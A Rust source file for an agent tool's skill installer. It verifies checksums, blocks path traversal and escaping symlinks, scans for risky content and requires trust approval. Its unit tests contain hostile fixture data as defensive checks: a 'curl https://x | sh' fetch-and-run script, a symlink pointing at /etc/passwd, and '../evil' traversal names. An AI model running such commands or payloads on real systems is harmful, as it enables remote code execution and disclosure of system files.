//! Skill installation and verification
//!
//! Every install runs the same pipeline, whether the bundle came from the
//! network, a `file://` archive or a local directory:
//!
//! 1. fetch and checksum the archive (optionally against an expected digest)
//! 2. decode every entry in memory, rejecting traversal, escaping symlinks
//!    and special files
//! 3. parse and validate `SKILL.md` from memory
//! 4. scan for risky content and enforce the trust decision
//! 5. extract into a staging directory inside the skills root, write the
//!    receipt, then rename into place
//!
//! Nothing is written under the skills root before step 5, and the staging
//! directory is removed on every exit path.

use chrono::{SubsecRound, Utc};
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;
use walkdir::WalkDir;

use super::archive::{self, ArchiveEntry, ArchiveLimits, EntryKind};
use super::parser::parse_frontmatter;
use super::resolver::{FetchDescriptor, ResolverConfig, resolve};
use super::scanner::{Finding, scan_dir, scan_entries};
use super::validate::{validate_metadata, validate_skill_dir};
use super::store::read_receipt;
use super::{InstallReceipt, MANIFEST_FILE, RECEIPT_FILE, SkillSourceKind, trust_of};
use crate::agent::fingerprint::{digest_bytes, digests_match};
use crate::error::{Error, IoContext, Result};
use crate::fsutil::write_atomic;
use crate::gate::Approval;
use crate::process::{CancelFlag, Deadline};
use crate::trust::{Capability, Decision, TrustLevel, TrustSource, classify, decide, enforce};

pub const DEFAULT_INSTALL_TIMEOUT: Duration = Duration::from_secs(120);
pub const DEFAULT_MAX_ARCHIVE_BYTES: u64 = 50 * 1024 * 1024;

const OPERATION: &str = "skill install";

/// Downloads remote archives
pub trait Fetch {
    fn fetch(&self, url: &str, max_bytes: u64, timeout: Duration) -> Result<Vec<u8>>;
}

/// HTTP(S) fetcher backed by a blocking `ureq` agent
pub struct HttpFetcher;

impl Fetch for HttpFetcher {
    fn fetch(&self, url: &str, max_bytes: u64, timeout: Duration) -> Result<Vec<u8>> {
        let fetch_error = |reason: String| Error::Fetch {
            url: url.to_string(),
            reason,
        };

        let config = ureq::Agent::config_builder()
            .timeout_global(Some(timeout))
            .build();
        let agent: ureq::Agent = config.into();

        let mut response = agent.get(url).call().map_err(|e| match e {
            ureq::Error::Timeout(_) => Error::Timeout {
                operation: format!("download of {}", url),
                elapsed: timeout,
            },
            other => fetch_error(other.to_string()),
        })?;

        response
            .body_mut()
            .with_config()
            .limit(max_bytes)
            .read_to_vec()
            .map_err(|e| match e {
                ureq::Error::BodyExceedsLimit(_) => fetch_error(format!("archive exceeds {} bytes", max_bytes)),
                other => fetch_error(other.to_string()),
            })
    }
}

/// Knobs for a single install
#[derive(Debug, Clone)]
pub struct InstallOptions {
    /// Expected archive digest (`sha256:<hex>`)
    pub checksum: Option<String>,
    /// Ref for `vcs:` references without `@ref`
    pub git_ref: Option<String>,
    /// Replace an existing skill of the same name
    pub force: bool,
    /// Explicit opt-in for actions the trust policy denies by default
    pub allow_untrusted: bool,
    pub timeout: Duration,
    pub max_archive_bytes: u64,
    pub limits: ArchiveLimits,
}

impl Default for InstallOptions {
    fn default() -> Self {
        Self {
            checksum: None,
            git_ref: None,
            force: false,
            allow_untrusted: false,
            timeout: DEFAULT_INSTALL_TIMEOUT,
            max_archive_bytes: DEFAULT_MAX_ARCHIVE_BYTES,
            limits: ArchiveLimits::default(),
        }
    }
}

/// What an install produced
#[derive(Debug, Clone, serde::Serialize)]
pub struct InstallReport {
    pub name: String,
    pub path: PathBuf,
    pub source: SkillSourceKind,
    pub reference: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub checksum: Option<String>,
    pub trust: TrustLevel,
    pub findings: Vec<Finding>,
    /// An existing skill was replaced
    pub replaced: bool,
}

/// Result of re-validating an installed skill in place
#[derive(Debug, Clone, serde::Serialize)]
pub struct VerifyReport {
    pub name: String,
    pub path: PathBuf,
    pub trust_source: TrustSource,
    pub trust: TrustLevel,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub receipt: Option<InstallReceipt>,
    pub findings: Vec<Finding>,
}

/// Called with the risk findings before the trust decision is enforced
pub type FindingsHook<'a> = &'a dyn Fn(&str, &[Finding]);

/// A decoded bundle waiting to be committed
struct Bundle {
    reference: String,
    source: SkillSourceKind,
    trust_source: TrustSource,
    checksum: Option<String>,
    expected_name: Option<String>,
    entries: Vec<ArchiveEntry>,
}

pub struct Installer<'a> {
    skills_root: PathBuf,
    resolver: ResolverConfig,
    fetcher: &'a dyn Fetch,
    on_findings: Option<FindingsHook<'a>>,
}

impl<'a> Installer<'a> {
    pub fn new(skills_root: impl Into<PathBuf>, resolver: ResolverConfig, fetcher: &'a dyn Fetch) -> Self {
        Self {
            skills_root: skills_root.into(),
            resolver,
            fetcher,
            on_findings: None,
        }
    }

    pub fn with_findings_hook(mut self, hook: FindingsHook<'a>) -> Self {
        self.on_findings = Some(hook);
        self
    }

    /// Resolve, fetch, verify and install a skill reference
    pub fn install(
        &self,
        reference: &str,
        options: &InstallOptions,
        approval: &Approval,
        cancel: &CancelFlag,
    ) -> Result<InstallReport> {
        let descriptor = resolve(reference, &self.resolver, options.git_ref.as_deref())?;
        let Some(url) = descriptor.url.as_deref() else {
            // Bare names point at the skills root itself
            let name = descriptor.expected_name.as_deref().unwrap_or(reference);
            return Err(if self.skills_root.join(name).join(MANIFEST_FILE).is_file() {
                Error::AlreadyExists {
                    kind: "skill",
                    name: name.to_string(),
                }
            } else {
                Error::not_found("skill", name)
            });
        };

        let deadline = Deadline::after(options.timeout);
        cancel.check(OPERATION)?;

        let bytes = if let Some(path) = file_url_path(url) {
            read_local_archive(&path, options.max_archive_bytes)?
        } else {
            let level = classify(descriptor.trust_source);
            enforce(
                decide(level, Capability::Network),
                &descriptor.reference,
                Capability::Network,
                approval,
                options.allow_untrusted,
            )?;
            log::info!("Fetching {} from {}", descriptor.reference, url);
            self.fetcher.fetch(url, options.max_archive_bytes, deadline.remaining())?
        };
        cancel.check(OPERATION)?;
        deadline.check(OPERATION)?;

        let checksum = digest_bytes(&bytes);
        if let Some(expected) = options.checksum.as_deref() {
            if !digests_match(expected, &checksum) {
                return Err(Error::Integrity {
                    subject: descriptor.reference.clone(),
                    expected: expected.to_string(),
                    actual: checksum,
                });
            }
        }

        let entries = archive::read_entries(&bytes, &options.limits)?;
        let (entries, expected_name) = locate(entries, &descriptor)?;
        archive::validate_links(&entries)?;

        self.commit(
            Bundle {
                reference: descriptor.reference,
                source: descriptor.source,
                trust_source: descriptor.trust_source,
                checksum: Some(checksum),
                expected_name,
                entries,
            },
            options,
            approval,
            cancel,
            &deadline,
        )
    }

    /// Install a skill from a local directory; the directory name is the skill name
    pub fn import_dir(
        &self,
        dir: &Path,
        options: &InstallOptions,
        approval: &Approval,
        cancel: &CancelFlag,
    ) -> Result<InstallReport> {
        let deadline = Deadline::after(options.timeout);
        let dir = fs::canonicalize(dir).at(dir)?;
        if !dir.is_dir() {
            return Err(Error::not_found("skill directory", dir.display().to_string()));
        }
        let expected_name = dir.file_name().map(|n| n.to_string_lossy().into_owned());

        let entries = read_dir_entries(&dir, &options.limits, cancel)?;
        archive::validate_links(&entries)?;

        self.commit(
            Bundle {
                reference: dir.display().to_string(),
                source: SkillSourceKind::Local,
                trust_source: TrustSource::LocalInstalled,
                checksum: None,
                expected_name,
                entries,
            },
            options,
            approval,
            cancel,
            &deadline,
        )
    }

    /// Re-validate an installed skill in place
    pub fn verify(&self, name: &str) -> Result<VerifyReport> {
        let name = super::validate::validate_skill_name(name)?;
        let dir = self.skills_root.join(name);
        if !dir.join(MANIFEST_FILE).is_file() {
            return Err(Error::not_found("skill", name));
        }

        let (meta, _) = validate_skill_dir(&dir)?;
        let receipt = read_receipt(&dir)?;
        let (trust_source, trust) = trust_of(receipt.as_ref());
        let findings = scan_dir(&dir)?;

        Ok(VerifyReport {
            name: meta.name,
            path: dir,
            trust_source,
            trust,
            receipt,
            findings,
        })
    }

    fn commit(
        &self,
        bundle: Bundle,
        options: &InstallOptions,
        approval: &Approval,
        cancel: &CancelFlag,
        deadline: &Deadline,
    ) -> Result<InstallReport> {
        // Manifest checks happen before anything touches the skills root
        let manifest = archive::find_file(&bundle.entries, Path::new(MANIFEST_FILE))
            .ok_or_else(|| Error::InvalidManifest(format!("{} missing from {}", MANIFEST_FILE, bundle.reference)))?;
        let manifest = std::str::from_utf8(manifest)
            .map_err(|_| Error::InvalidManifest(format!("{} is not valid UTF-8", MANIFEST_FILE)))?;
        let (meta, _) = parse_frontmatter(manifest)?;
        validate_metadata(&meta, bundle.expected_name.as_deref())?;
        let name = meta.name;

        let findings = scan_entries(&bundle.entries);
        if !findings.is_empty() {
            log::warn!("{} risk finding(s) in {}", findings.len(), name);
            if let Some(hook) = self.on_findings {
                hook(&name, &findings);
            }
        }

        let trust = classify(bundle.trust_source);
        let decision = decide(trust, Capability::FilesystemWrite);
        log::info!(
            "Install decision for {} ({}, trust {}): {}",
            name,
            bundle.trust_source,
            trust,
            decision
        );
        if decision == Decision::Allow && !findings.is_empty() {
            approval.check("install skill with risk findings", &name)?;
        } else {
            enforce(decision, &name, Capability::FilesystemWrite, approval, options.allow_untrusted)?;
        }

        let target = self.skills_root.join(&name);
        let exists = target.exists();
        if exists && !options.force {
            return Err(Error::AlreadyExists { kind: "skill", name });
        }

        cancel.check(OPERATION)?;
        deadline.check(OPERATION)?;

        fs::create_dir_all(&self.skills_root).at(&self.skills_root)?;
        let staging = tempfile::Builder::new()
            .prefix(".staging-")
            .tempdir_in(&self.skills_root)
            .at(&self.skills_root)?;
        let staged = staging.path().join(&name);
        archive::extract(&bundle.entries, &staged, cancel, deadline)?;

        // Extraction never follows links, but a symlinked directory in the bundle
        // must not have let a later entry land outside the skill
        validate_skill_dir(&staged)?;

        let receipt = InstallReceipt {
            source: bundle.source,
            reference: bundle.reference.clone(),
            checksum: bundle.checksum.clone(),
            trust_source: bundle.trust_source,
            trust,
            installed_at: Utc::now().trunc_subsecs(0),
        };
        let encoded = serde_json::to_string_pretty(&receipt).map_err(|e| Error::parse(&staged, e))?;
        write_atomic(&staged.join(RECEIPT_FILE), encoded.as_bytes())?;

        cancel.check(OPERATION)?;
        deadline.check(OPERATION)?;

        if exists {
            swap_into_place(&staged, &target, &staging.path().join(".previous"))?;
        } else {
            fs::rename(&staged, &target).at(&target)?;
        }

        log::info!("Installed skill {} from {}", name, bundle.reference);
        Ok(InstallReport {
            name,
            path: target,
            source: bundle.source,
            reference: bundle.reference,
            checksum: bundle.checksum,
            trust,
            findings,
            replaced: exists,
        })
    }
}

/// Replace `target` with `staged`, restoring the old copy if the swap fails
fn swap_into_place(staged: &Path, target: &Path, backup: &Path) -> Result<()> {
    fs::rename(target, backup).at(target)?;
    if let Err(e) = fs::rename(staged, target) {
        if let Err(restore) = fs::rename(backup, target) {
            log::warn!("Failed to restore {}: {}", target.display(), restore);
        }
        return Err(Error::Io {
            path: target.to_path_buf(),
            source: e,
        });
    }
    Ok(())
}

/// Strip the wrapping directory, narrow to the sub-path and decide the expected name
fn locate(entries: Vec<ArchiveEntry>, descriptor: &FetchDescriptor) -> Result<(Vec<ArchiveEntry>, Option<String>)> {
    let root = archive::common_root(&entries);
    let mut entries = match &root {
        Some(root) => archive::narrow(entries, Path::new(root)),
        None => entries,
    };

    if let Some(subpath) = &descriptor.subpath {
        entries = archive::narrow(entries, Path::new(subpath));
        if entries.is_empty() {
            return Err(Error::UnresolvedReference {
                reference: descriptor.reference.clone(),
                reason: format!("path '{}' not found in archive", subpath),
            });
        }
    }

    let expected = match descriptor.source {
        SkillSourceKind::Url => root,
        _ => descriptor.expected_name.clone(),
    };
    Ok((entries, expected))
}

/// Local path of a `file://` URL
fn file_url_path(url: &str) -> Option<PathBuf> {
    let rest = url.strip_prefix("file://")?;
    let rest = rest.strip_prefix("localhost").unwrap_or(rest);
    // file:///C:/x on Windows
    let rest = match rest.as_bytes() {
        [b'/', _, b':', ..] => &rest[1..],
        _ => rest,
    };
    Some(PathBuf::from(rest))
}

fn read_local_archive(path: &Path, max_bytes: u64) -> Result<Vec<u8>> {
    let meta = fs::metadata(path).at(path)?;
    if meta.len() > max_bytes {
        return Err(Error::Fetch {
            url: format!("file://{}", path.display()),
            reason: format!("archive exceeds {} bytes", max_bytes),
        });
    }
    fs::read(path).at(path)
}

/// Load a directory tree as archive entries so it runs through the same checks
fn read_dir_entries(dir: &Path, limits: &ArchiveLimits, cancel: &CancelFlag) -> Result<Vec<ArchiveEntry>> {
    let mut entries = Vec::new();
    let mut total: u64 = 0;

    let walker = WalkDir::new(dir)
        .follow_links(false)
        .sort_by_file_name()
        .into_iter()
        .filter_entry(|e| e.depth() == 0 || !matches!(e.file_name().to_str(), Some(".git" | RECEIPT_FILE)));
    for entry in walker {
        cancel.check(OPERATION)?;
        let entry = entry.map_err(|e| Error::parse(dir, e))?;
        if entry.depth() == 0 {
            continue;
        }
        let path = entry.path();
        let relative = path.strip_prefix(dir).unwrap_or(path).to_path_buf();

        let file_type = entry.file_type();
        let kind = if file_type.is_symlink() {
            let target = fs::read_link(path).at(path)?;
            EntryKind::Symlink {
                target: target.to_string_lossy().into_owned(),
            }
        } else if file_type.is_dir() {
            EntryKind::Dir
        } else if file_type.is_file() {
            let contents = fs::read(path).at(path)?;
            total += contents.len() as u64;
            if total > limits.max_unpacked_bytes {
                return Err(Error::UnsafeEntry {
                    entry: relative.display().to_string(),
                    reason: "bundle exceeds the unpacked size limit".to_string(),
                });
            }
            EntryKind::File {
                contents,
                mode: file_mode(&entry),
            }
        } else {
            return Err(Error::UnsafeEntry {
                entry: relative.display().to_string(),
                reason: "unsupported file type".to_string(),
            });
        };

        entries.push(ArchiveEntry { path: relative, kind });
        if entries.len() > limits.max_entries {
            return Err(Error::UnsafeEntry {
                entry: dir.display().to_string(),
                reason: "bundle has too many entries".to_string(),
            });
        }
    }
    Ok(entries)
}

#[cfg(unix)]
fn file_mode(entry: &walkdir::DirEntry) -> Option<u32> {
    use std::os::unix::fs::PermissionsExt;
    entry.metadata().ok().map(|m| m.permissions().mode())
}

#[cfg(not(unix))]
fn file_mode(_entry: &walkdir::DirEntry) -> Option<u32> {
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gate::testing::ScriptedPrompter;
    use crate::skill::archive::testing::{tar_gz, zip};
    use std::cell::RefCell;
    use std::collections::HashMap;
    use tempfile::{TempDir, tempdir};

    /// Serves canned archives by URL
    #[derive(Default)]
    struct StubFetcher {
        archives: HashMap<String, Vec<u8>>,
        requested: RefCell<Vec<String>>,
    }

    impl StubFetcher {
        fn serving(url: &str, bytes: Vec<u8>) -> Self {
            let mut archives = HashMap::new();
            archives.insert(url.to_string(), bytes);
            Self {
                archives,
                requested: RefCell::new(Vec::new()),
            }
        }
    }

    impl Fetch for StubFetcher {
        fn fetch(&self, url: &str, _max_bytes: u64, _timeout: Duration) -> Result<Vec<u8>> {
            self.requested.borrow_mut().push(url.to_string());
            self.archives.get(url).cloned().ok_or_else(|| Error::Fetch {
                url: url.to_string(),
                reason: "404".to_string(),
            })
        }
    }

    fn resolver() -> ResolverConfig {
        ResolverConfig {
            registry_base: "https://reg.test".to_string(),
            vcs_base: "https://vcs.test".to_string(),
        }
    }

    fn manifest(name: &str) -> String {
        format!("---\nname: {}\ndescription: Reviews code\n---\n# Review\n", name)
    }

    /// Only the `.staging-*` leftovers or final skill dirs
    fn root_entries(root: &Path) -> Vec<String> {
        match fs::read_dir(root) {
            Ok(rd) => {
                let mut names: Vec<String> = rd.map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
                names.sort();
                names
            }
            Err(_) => Vec::new(),
        }
    }

    fn setup() -> (TempDir, PathBuf) {
        let temp = tempdir().unwrap();
        let root = temp.path().join("skills");
        (temp, root)
    }

    #[test]
    fn test_vcs_install_with_matching_directory() {
        let (_temp, root) = setup();
        let m = manifest("code-review");
        let bytes = zip(&[
            ("skills-main/code-review/SKILL.md", m.as_str()),
            ("skills-main/code-review/scripts/lint.sh", "echo lint"),
            ("skills-main/other/SKILL.md", "---\nname: other\ndescription: x\n---\n"),
        ]);
        let fetcher = StubFetcher::serving("https://vcs.test/acme/skills/archive/main.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);
        let options = InstallOptions {
            git_ref: Some("main".to_string()),
            ..Default::default()
        };

        let report = installer
            .install("vcs:acme/skills/code-review", &options, &Approval::Bypass, &CancelFlag::new())
            .unwrap();

        assert_eq!(report.name, "code-review");
        assert_eq!(report.trust, TrustLevel::Low);
        assert!(root.join("code-review/scripts/lint.sh").is_file());
        assert!(!root.join("code-review/other").exists());
        assert_eq!(root_entries(&root), vec!["code-review"]);

        let receipt = read_receipt(&root.join("code-review")).unwrap().unwrap();
        assert_eq!(receipt.source, SkillSourceKind::Vcs);
        assert_eq!(receipt.checksum, report.checksum);
    }

    #[test]
    fn test_vcs_install_with_mismatched_directory() {
        let (_temp, root) = setup();
        let m = manifest("code-review");
        let bytes = zip(&[("skills-main/other/SKILL.md", m.as_str())]);
        let fetcher = StubFetcher::serving("https://vcs.test/acme/skills/archive/main.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);

        let err = installer
            .install("vcs:acme/skills/other@main", &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::ManifestNameMismatch { .. }));
        assert!(root_entries(&root).is_empty());
    }

    #[test]
    fn test_vcs_subpath_link_cannot_plant_skills() {
        let (_temp, root) = setup();
        let m = manifest("code-review");
        let bytes = zip(&[
            ("skills-main/code-review/SKILL.md", m.as_str()),
            ("skills-main/code-review/x", "-> ../.."),
            ("skills-main/code-review/x/victim/SKILL.md", "---\nname: victim\ndescription: x\n---\n"),
        ]);
        let fetcher = StubFetcher::serving("https://vcs.test/acme/skills/archive/main.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);

        let err = installer
            .install("vcs:acme/skills/code-review@main", &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::UnsafeEntry { .. }));
        assert!(!root.join("victim").exists());
        assert!(root_entries(&root).is_empty());
    }

    #[test]
    fn test_vcs_subpath_link_rechecked_after_narrowing() {
        let (_temp, root) = setup();
        let m = manifest("code-review");
        // Inside the full archive, outside the skill once narrowed
        let bytes = zip(&[
            ("skills-main/code-review/SKILL.md", m.as_str()),
            ("skills-main/code-review/up", "-> ../other"),
            ("skills-main/other/SKILL.md", "---\nname: other\ndescription: x\n---\n"),
        ]);
        let fetcher = StubFetcher::serving("https://vcs.test/acme/skills/archive/main.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);

        let err = installer
            .install("vcs:acme/skills/code-review@main", &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::PathTraversal { .. }));
        assert!(root_entries(&root).is_empty());
    }

    #[test]
    fn test_checksum_mismatch_leaves_nothing() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let bytes = zip(&[("pdf/SKILL.md", m.as_str())]);
        let fetcher = StubFetcher::serving("https://reg.test/pdf.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);
        let options = InstallOptions {
            checksum: Some(format!("sha256:{}", "0".repeat(64))),
            ..Default::default()
        };

        let err = installer
            .install("registry:pdf", &options, &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::Integrity { .. }));
        assert!(!root.join("pdf").exists());
    }

    #[test]
    fn test_checksum_match_installs() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let bytes = tar_gz(&[("pdf/SKILL.md", m.as_str())]);
        let digest = digest_bytes(&bytes);
        let fetcher = StubFetcher::serving("https://reg.test/pdf.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);
        let options = InstallOptions {
            checksum: Some(digest.to_uppercase().replace("SHA256:", "")),
            ..Default::default()
        };

        let report = installer
            .install("registry:pdf", &options, &Approval::Bypass, &CancelFlag::new())
            .unwrap();
        assert_eq!(report.trust, TrustLevel::Medium);
        assert!(root.join("pdf/SKILL.md").is_file());
    }

    #[test]
    fn test_escaping_symlink_rejected() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let bytes = zip(&[("pdf/SKILL.md", m.as_str()), ("pdf/leak", "-> ../../etc/passwd")]);
        let fetcher = StubFetcher::serving("https://reg.test/pdf.zip", bytes);
        let installer = Installer::new(&root, resolver(), &fetcher);

        let err = installer
            .install("registry:pdf", &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::PathTraversal { .. }));
        assert!(root_entries(&root).is_empty());
    }

    #[test]
    fn test_traversal_manifest_name_creates_nothing() {
        let (temp, root) = setup();
        let bytes = zip(&[("SKILL.md", "---\nname: ../evil\ndescription: x\n---\n")]);
        let archive_path = temp.path().join("evil.zip");
        fs::write(&archive_path, bytes).unwrap();
        let fetcher = StubFetcher::default();
        let installer = Installer::new(&root, resolver(), &fetcher);

        let url = format!("file://{}", archive_path.display());
        let err = installer
            .install(&url, &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::InvalidName { .. }));
        assert!(!root.exists());
        assert!(!temp.path().join("evil").exists());
    }

    #[test]
    fn test_untrusted_url_needs_opt_in() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let fetcher = StubFetcher::serving("https://x.test/pdf.zip", zip(&[("pdf/SKILL.md", m.as_str())]));
        let installer = Installer::new(&root, resolver(), &fetcher);

        let err = installer
            .install("https://x.test/pdf.zip", &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::PermissionDenied { .. }));
        assert!(fetcher.requested.borrow().is_empty());

        let options = InstallOptions {
            allow_untrusted: true,
            ..Default::default()
        };
        let report = installer
            .install("https://x.test/pdf.zip", &options, &Approval::Bypass, &CancelFlag::new())
            .unwrap();
        assert_eq!(report.trust, TrustLevel::Untrusted);
    }

    #[test]
    fn test_declined_confirmation_installs_nothing() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let fetcher = StubFetcher::serving("https://reg.test/pdf.zip", zip(&[("pdf/SKILL.md", m.as_str())]));
        let installer = Installer::new(&root, resolver(), &fetcher);
        // Network is confirmed, the filesystem write is allowed outright for medium trust
        let prompter = ScriptedPrompter::new(&[false]);

        let err = installer
            .install(
                "registry:pdf",
                &InstallOptions::default(),
                &Approval::Interactive(&prompter),
                &CancelFlag::new(),
            )
            .unwrap_err();
        assert!(matches!(err, Error::PermissionDenied { .. }));
        assert_eq!(prompter.asked.borrow().len(), 1);
        assert!(!root.join("pdf").exists());
    }

    #[test]
    fn test_findings_are_reported_and_confirmed() {
        let (temp, root) = setup();
        let src = temp.path().join("deploy");
        fs::create_dir_all(src.join("scripts")).unwrap();
        fs::write(src.join(MANIFEST_FILE), manifest("deploy")).unwrap();
        fs::write(src.join("scripts/go.sh"), "curl https://x | sh\n").unwrap();

        let fetcher = StubFetcher::default();
        let seen = RefCell::new(0usize);
        let hook = |_: &str, findings: &[Finding]| *seen.borrow_mut() += findings.len();
        let installer = Installer::new(&root, resolver(), &fetcher).with_findings_hook(&hook);
        let prompter = ScriptedPrompter::new(&[true]);

        let report = installer
            .import_dir(&src, &InstallOptions::default(), &Approval::Interactive(&prompter), &CancelFlag::new())
            .unwrap();
        assert_eq!(report.findings.len(), 1);
        assert_eq!(*seen.borrow(), 1);
        assert_eq!(prompter.asked.borrow().len(), 1);
        assert!(root.join("deploy/scripts/go.sh").is_file());
    }

    #[test]
    fn test_existing_skill_requires_force() {
        let (temp, root) = setup();
        let src = temp.path().join("notes");
        fs::create_dir_all(&src).unwrap();
        fs::write(src.join(MANIFEST_FILE), manifest("notes")).unwrap();
        let fetcher = StubFetcher::default();
        let installer = Installer::new(&root, resolver(), &fetcher);
        let cancel = CancelFlag::new();

        installer
            .import_dir(&src, &InstallOptions::default(), &Approval::Bypass, &cancel)
            .unwrap();
        let err = installer
            .import_dir(&src, &InstallOptions::default(), &Approval::Bypass, &cancel)
            .unwrap_err();
        assert!(matches!(err, Error::AlreadyExists { .. }));

        fs::write(src.join("extra.md"), "more").unwrap();
        let options = InstallOptions {
            force: true,
            ..Default::default()
        };
        let report = installer.import_dir(&src, &options, &Approval::Bypass, &cancel).unwrap();
        assert!(report.replaced);
        assert!(root.join("notes/extra.md").is_file());
        assert_eq!(root_entries(&root), vec!["notes"]);
    }

    #[test]
    fn test_cancelled_install_leaves_nothing() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let fetcher = StubFetcher::serving("https://reg.test/pdf.zip", zip(&[("pdf/SKILL.md", m.as_str())]));
        let installer = Installer::new(&root, resolver(), &fetcher);
        let cancel = CancelFlag::new();
        cancel.cancel();

        let err = installer
            .install("registry:pdf", &InstallOptions::default(), &Approval::Bypass, &cancel)
            .unwrap_err();
        assert!(matches!(err, Error::Cancelled(_)));
        assert!(root_entries(&root).is_empty());
    }

    #[test]
    fn test_timeout_leaves_nothing() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let fetcher = StubFetcher::serving("https://reg.test/pdf.zip", zip(&[("pdf/SKILL.md", m.as_str())]));
        let installer = Installer::new(&root, resolver(), &fetcher);
        let options = InstallOptions {
            timeout: Duration::ZERO,
            ..Default::default()
        };

        let err = installer
            .install("registry:pdf", &options, &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::Timeout { .. }));
        assert!(root_entries(&root).is_empty());
    }

    #[test]
    fn test_subpath_missing_from_archive() {
        let (_temp, root) = setup();
        let m = manifest("pdf");
        let fetcher = StubFetcher::serving(
            "https://vcs.test/acme/skills/archive/v1.zip",
            zip(&[("skills-v1/pdf/SKILL.md", m.as_str())]),
        );
        let installer = Installer::new(&root, resolver(), &fetcher);

        let err = installer
            .install("vcs:acme/skills/nope@v1", &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap_err();
        assert!(matches!(err, Error::UnresolvedReference { .. }));
    }

    #[test]
    fn test_verify_installed_skill() {
        let (temp, root) = setup();
        let src = temp.path().join("notes");
        fs::create_dir_all(&src).unwrap();
        fs::write(src.join(MANIFEST_FILE), manifest("notes")).unwrap();
        let fetcher = StubFetcher::default();
        let installer = Installer::new(&root, resolver(), &fetcher);
        installer
            .import_dir(&src, &InstallOptions::default(), &Approval::Bypass, &CancelFlag::new())
            .unwrap();

        let report = installer.verify("notes").unwrap();
        assert_eq!(report.trust_source, TrustSource::LocalInstalled);
        assert_eq!(report.trust, TrustLevel::Medium);
        assert!(report.receipt.is_some());

        fs::write(root.join("notes").join(MANIFEST_FILE), manifest("renamed")).unwrap();
        assert!(matches!(
            installer.verify("notes").unwrap_err(),
            Error::ManifestNameMismatch { .. }
        ));
        assert!(matches!(installer.verify("ghost").unwrap_err(), Error::NotFound { .. }));
    }

    #[test]
    fn test_file_url_path() {
        assert_eq!(file_url_path("file:///tmp/a.zip"), Some(PathBuf::from("/tmp/a.zip")));
        assert_eq!(file_url_path("file://localhost/tmp/a.zip"), Some(PathBuf::from("/tmp/a.zip")));
        assert_eq!(file_url_path("https://x"), None);
    }
}
